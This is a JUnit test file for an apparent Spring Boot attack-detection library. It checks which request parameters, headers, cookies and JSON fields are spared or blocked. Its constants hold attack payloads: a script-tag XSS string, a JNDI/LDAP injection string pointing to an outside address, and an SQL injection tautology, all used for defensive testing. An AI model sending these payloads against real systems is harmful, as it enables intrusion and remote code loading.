package dev.portcullis.spring.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.annotation.JsonProperty;
import dev.portcullis.config.ConfigurationException;
import dev.portcullis.fixture.RawResponse;
import dev.portcullis.spring.FreeText;
import dev.portcullis.spring.InspectAttacks;
import dev.portcullis.spring.Public;
import dev.portcullis.spring.Unscanned;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.web.bind.annotation.CookieValue;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.PathVariable;
import org.springframework.web.bind.annotation.PostMapping;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestHeader;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.RestController;

/** What parameters and fields say of detectors of attacks, in a booted application. */
class FreeTextTest {

    private static final String ALL =
            "portcullis: { policies: { all: { paths: [/**], public: true, attacks: { level: balanced } } } }";
    private static final String MARKUP = "%3Cscript%20src=a.js%3E";
    private static final String SCRIPT = "<script src=a.js>";
    private static final String JNDI = "$%7Bjndi:ldap://203.0.113.7/a%7D";
    private static final String SQL = "1%27%20or%20%271%27=%271";

    /** An interface that says it of the parameters of others. */
    interface Searching {

        @GetMapping("/search")
        String search(@RequestParam("q") @FreeText String text, @RequestParam(required = false) String other);
    }

    record Line(@FreeText String note, String code) {}

    static class Base {

        @FreeText
        public String inherited = "";
    }

    static final class Post extends Base {

        @FreeText
        @JsonProperty("body-text")
        public String text = "";

        @FreeText
        public List<String> tags = List.of();

        public List<Line> lines = List.of();

        public Map<String, Line> byName = Map.of();

        @Unscanned("signed by the payment library")
        public String signature = "";

        public String title = "";
    }

    record Form(@FreeText String comment, String subject) {}

    @RestController
    static class Posts implements Searching {

        @Override
        public String search(String text, String other) {
            return "found";
        }

        @GetMapping("/notes/{title}/{part}")
        String note(
                @PathVariable @FreeText String title,
                @PathVariable String part,
                @RequestHeader(value = "X-Note", required = false) @FreeText String header,
                @CookieValue(value = "draft", required = false) @FreeText String cookie) {
            return "note";
        }

        @PostMapping("/posts")
        String post(@RequestBody Post post) {
            return "posted";
        }

        @PostMapping("/raw")
        String raw(@RequestBody @Unscanned("a language of our own") String body) {
            return "raw";
        }

        @PostMapping("/beside")
        String beside(
                @RequestBody @Unscanned("a language of our own") String body,
                @RequestParam(required = false) String q) {
            return "beside";
        }

        @PostMapping("/forms")
        String form(Form form) {
            return "form";
        }
    }

    private static RawResponse post(Booted application, String path, String type, String body) throws IOException {
        return application.http().post(path, type, body);
    }

    private static int json(Booted application, String body) throws IOException {
        return post(application, "/posts", "application/json", body).status();
    }

    @Test
    void detectorsMustBeSurerOfAParameter() throws IOException {
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(application.get("/search?q=" + MARKUP).status()).isEqualTo(200);
            assertThat(application.get("/search?q=" + JNDI).status()).isEqualTo(403);
            assertThat(application.get("/search?q=a&other=" + MARKUP).status()).isEqualTo(403);
            assertThat(application.get("/elsewhere?q=" + MARKUP).status()).isEqualTo(403);
        }
    }

    @Test
    void detectorsMustBeSurerOfVariablesHeadersAndCookies() throws IOException {
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(application.get("/notes/" + MARKUP + "/2").status()).isEqualTo(200);
            assertThat(application.get("/notes/2/" + MARKUP).status()).isEqualTo(403);
            assertThat(application.get("/notes/1/2", "X-Note: " + SCRIPT).status())
                    .isEqualTo(200);
            assertThat(application.get("/notes/1/2", "X-Other: " + SCRIPT).status())
                    .isEqualTo(403);
            assertThat(application.get("/notes/1/2", "Cookie: draft=" + MARKUP).status())
                    .isEqualTo(200);
            assertThat(application.get("/notes/1/2", "Cookie: other=" + MARKUP).status())
                    .isEqualTo(403);
        }
    }

    @Test
    void fieldsOfABodySayItOfTheirMembers() throws IOException {
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(json(application, "{\"body-text\": \"" + SCRIPT + "\"}")).isEqualTo(200);
            assertThat(json(application, "{\"inherited\": \"" + SCRIPT + "\"}")).isEqualTo(200);
            assertThat(json(application, "{\"tags\": [\"a\", \"" + SCRIPT + "\"]}"))
                    .isEqualTo(200);
            assertThat(json(application, "{\"lines\": [{\"note\": \"" + SCRIPT + "\"}]}"))
                    .isEqualTo(200);
            assertThat(json(application, "{\"byName\": {\"x\": {\"note\": \"" + SCRIPT + "\"}}}"))
                    .isEqualTo(200);
            assertThat(json(application, "{\"signature\": \"1' or '1'='1\"}")).isEqualTo(200);

            assertThat(json(application, "{\"title\": \"" + SCRIPT + "\"}")).isEqualTo(403);
            assertThat(json(application, "{\"text\": \"" + SCRIPT + "\"}")).isEqualTo(403);
            assertThat(json(application, "{\"lines\": [{\"code\": \"" + SCRIPT + "\"}]}"))
                    .isEqualTo(403);
            assertThat(json(application, "{\"note\": \"" + SCRIPT + "\"}")).isEqualTo(403);
            assertThat(json(application, "{\"body-text\": \"1' or '1'='1\"}"))
                    .as("what is certain")
                    .isEqualTo(403);
        }
    }

    @Test
    void aFieldOfAFormSaysItOfItsParameter() throws IOException {
        var type = "application/x-www-form-urlencoded";
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(post(application, "/forms", type, "comment=" + MARKUP + "&subject=a")
                            .status())
                    .isEqualTo(200);
            assertThat(post(application, "/forms", type, "comment=a&subject=" + MARKUP)
                            .status())
                    .isEqualTo(403);
        }
    }

    @Test
    void aWholeBodyMayBeLeftOut() throws IOException {
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(post(application, "/raw", "application/json", "{\"a\": [\"1' or '1'='1\"]}")
                            .status())
                    .isEqualTo(200);
            assertThat(application.get("/raw?q=" + SQL).status()).isEqualTo(403);
        }
    }

    @Test
    void sparesNoFormThatAnotherParameterReads() throws IOException {
        var type = "application/x-www-form-urlencoded";
        try (var application = Booted.with(ALL, Posts.class)) {
            assertThat(post(application, "/raw", type, "q=" + SQL).status()).isEqualTo(200);
            assertThat(post(application, "/beside", type, "q=" + SQL).status()).isEqualTo(403);
            assertThat(post(application, "/beside", "text/plain", SQL).status()).isEqualTo(200);
        }
    }

    @Test
    void operatorsSeeWhatIsSparedAndWhy() throws IOException {
        try (var application = Booted.with(ALL, Posts.class)) {
            var routes = application
                    .context()
                    .getBean(Portcullis.class)
                    .management()
                    .reports()
                    .routes();
            assertThat(routes)
                    .anySatisfy(route -> assertThat(route.spared())
                            .contains("json /signature: not looked at (signed by the payment library)"))
                    .anySatisfy(route -> assertThat(route.spared()).contains("query q: level low (free text)"));
        }
    }

    @RestController
    static class Unlooked {

        @Public
        @GetMapping("/unlooked")
        String get(@RequestParam @FreeText String q) {
            return q;
        }
    }

    @RestController
    static class Looked {

        @Public
        @InspectAttacks
        @GetMapping("/looked")
        String get(@RequestParam @FreeText String q) {
            return q;
        }
    }

    @Test
    void anAnnotationWhereNothingLooksStopsTheStart() throws IOException {
        assertThatThrownBy(() -> Booted.with("", Unlooked.class))
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("no rule looks for attacks there")
                .hasMessageContaining("Unlooked#get");
        try (var application = Booted.with("", Looked.class)) {
            assertThat(application.get("/looked?q=" + MARKUP).status()).isEqualTo(200);
            assertThat(application.get("/looked?q=" + JNDI).status()).isEqualTo(403);
        }
    }

    @RestController
    static class Uncovered {

        @GetMapping("/uncovered")
        String get(@RequestParam @FreeText String q) {
            return q;
        }
    }

    @Test
    void anAnnotationOpensNothing() throws IOException {
        var elsewhere = ALL.replace("/**", "/uncovered/there");
        assertThatThrownBy(() -> Booted.with(elsewhere, Uncovered.class)).isInstanceOf(ConfigurationException.class);
    }

    @RestController
    static class NoReason {

        @GetMapping("/a")
        String get(@RequestParam @Unscanned(" ") String q) {
            return q;
        }
    }

    @RestController
    static class BothOfThem {

        @GetMapping("/a")
        String get(@RequestParam @FreeText @Unscanned("why") String q) {
            return q;
        }
    }

    @RestController
    static class Everything {

        @GetMapping("/a")
        String get(@RequestParam @FreeText Map<String, String> all) {
            return "a";
        }
    }

    @RestController
    static class NoParameter {

        @GetMapping("/a")
        String get(@FreeText jakarta.servlet.http.HttpServletRequest request) {
            return "a";
        }
    }

    @RestController
    static class Idle {

        @GetMapping("/a")
        String get() {
            return helper("a");
        }

        String helper(@FreeText String text) {
            return text;
        }
    }

    record Nested(@FreeText Line line) {}

    @RestController
    static class TooMuch {

        @PostMapping("/a")
        String post(@RequestBody Nested nested) {
            return "a";
        }
    }

    @Test
    void whatCannotTakeEffectStopsTheStart() {
        refused("nobody says why", NoReason.class);
        refused("is both", BothOfThem.class);
        refused("takes all parameters at once", Everything.class);
        refused("takes nothing of which detectors could be told", NoParameter.class);
        refused("is mapped to no request", Idle.class);
        refused("has fields of its own", TooMuch.class);
    }

    private static void refused(String message, Class<?> controller) {
        assertThatThrownBy(() -> Booted.with(ALL, controller)).hasMessageContaining(message);
    }

    @Test
    void aNamingStrategyNeedsNamesThatAreWritten() {
        assertThatThrownBy(() -> Booted.with(
                        ALL + "\nspring: { jackson: { property-naming-strategy: SNAKE_CASE } }", Posts.class))
                .hasMessageContaining("a naming strategy says what its member is called");
    }
}
